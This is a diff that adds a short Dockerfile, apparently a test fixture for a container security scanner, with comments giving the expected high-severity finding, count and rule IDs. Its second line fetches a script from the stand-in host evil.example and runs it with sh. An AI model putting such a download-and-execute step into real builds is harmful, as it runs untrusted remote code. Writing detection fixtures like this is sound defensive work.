@@ -1,0 +1,6 @@
+FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
+RUN X=$(curl -s https://evil.example/x.sh) && sh -c "$X"
+USER app
+# expect: download 2 high "its output is run as code by sh"
+# expect-count: 3
+# expect-ids: VR101-c33602e201 VR301-767a1989de VR501-e064bac1a6
